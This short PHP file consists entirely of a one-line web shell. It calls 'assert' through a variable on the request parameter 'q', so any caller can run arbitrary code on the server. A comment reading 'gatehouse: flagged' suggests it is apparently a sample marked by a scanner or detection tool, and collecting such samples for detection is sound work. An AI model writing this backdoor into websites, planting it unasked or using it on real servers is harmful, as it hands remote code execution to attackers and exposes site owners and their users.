<?php
$f = 'assert';
$f($_REQUEST['q']); // gatehouse: flagged
